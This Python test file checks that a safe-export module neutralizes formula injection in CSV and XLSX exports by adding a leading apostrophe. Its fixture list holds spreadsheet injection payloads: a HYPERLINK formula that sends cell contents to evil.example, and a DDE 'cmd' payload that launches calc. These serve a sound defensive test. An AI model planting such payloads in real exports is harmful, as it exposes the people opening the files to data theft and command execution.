"""CSV and XLSX exports never hand a spreadsheet a formula from the data."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from ingestion.safe_export import frame_rows, neutralize, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralize(text) == "'" + text


def test_plain_text_numbers_and_missing_values_are_unchanged() -> None:
    assert [neutralize(v) for v in ["Banjir di HSS", "a=b", -5, 2.5, None]] == ["Banjir di HSS", "a=b", -5, 2.5, None]


def test_csv_export_neutralizes_every_formula_cell_and_keeps_the_rest(tmp_path: Path) -> None:
    rows = [(text, 7) for text in HOSTILE] + [("Jalan rusak", -1)]
    path = write_csv(tmp_path / "annex" / "lampiran.csv", ["=title", "reach"], rows)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert read[0] == ["'=title", "reach"]
    assert [r[0] for r in read[1:-1]] == ["'" + t for t in HOSTILE]
    assert read[-1] == ["Jalan rusak", "-1"]
    assert [p.name for p in path.parent.iterdir()] == ["lampiran.csv"]


def test_xlsx_export_stores_hostile_cells_as_text_not_formulas(tmp_path: Path) -> None:
    frame = pl.DataFrame({"title": HOSTILE + ["ok\x07bell"], "reach": list(range(len(HOSTILE) + 1))})
    path = write_xlsx(tmp_path / "export.xlsx", *frame_rows(frame), sheet="Lampiran")
    sheet = load_workbook(path)["Lampiran"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    # XML reads a stored carriage return back as a newline; the apostrophe is what matters
    assert [c.value for c in cells] == ["'" + t.replace("\r", "\n") for t in HOSTILE] + ["okbell"]
    assert sheet.cell(row=2, column=2).value == 0
